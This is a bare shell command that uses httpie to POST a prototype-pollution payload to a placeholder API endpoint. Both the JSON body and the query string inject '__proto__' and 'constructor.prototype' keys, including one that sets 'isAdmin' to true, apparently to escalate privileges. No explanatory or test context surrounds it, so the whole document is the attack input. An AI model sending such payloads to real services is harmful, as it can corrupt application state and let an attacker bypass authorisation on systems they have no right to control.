printf '%s' '{
  "__proto__": {
    "isAdmin": true
  },
  "constructor": {
    "prototype": {
      "polluted": true
    }
  },
  "toString": "x",
  "list": [
    {
      "__proto__": null
    }
  ]
}' | http POST 'https://api.example.com/v1/proto?__proto__=q&constructor=c&filter%5B__proto__%5D=nested' \
  'Content-Type:application/json'
